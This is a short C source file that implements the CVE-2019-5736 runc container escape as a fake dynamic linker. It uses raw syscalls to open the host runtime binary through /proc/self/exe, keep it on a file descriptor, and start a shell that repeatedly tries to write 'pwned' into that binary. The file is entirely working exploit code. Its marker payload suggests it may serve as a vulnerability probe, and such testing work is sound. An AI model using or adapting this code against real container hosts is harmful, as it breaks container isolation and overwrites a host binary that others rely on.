/* The attack of CVE-2019-5736: the command is a script whose interpreter is /proc/self/exe, which is the runtime's own program on
   the host, and this is what that program finds as its dynamic linker inside. It keeps the program open, becomes a shell, and the
   shell writes to it. Without a C library, which could not start in this place. */
static long call(long number, long a, long b, long c) {
  long result;
#if defined(__x86_64__)
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
#error the attack is written for x86-64
#endif
  return result;
}

void _start(void) {
  static char *words[] = {"sh", "-c",
    "i=0; while [ $i -lt 30 ]; do (printf pwned >>/proc/self/fd/9) 2>/dev/null && echo WRITTEN; i=$((i+1)); sleep 0.01; done; "
    "head -c 4 <&9 | tail -c 3; echo ' tried'", 0};
  long fd = call(2, (long)"/proc/self/exe", 0, 0);        /* open */
  call(33, fd, 9, 0);                                     /* dup2 */
  call(59, (long)"/bin/busybox", (long)words, 0);         /* execve */
  call(60, 99, 0, 0);                                     /* exit */
}
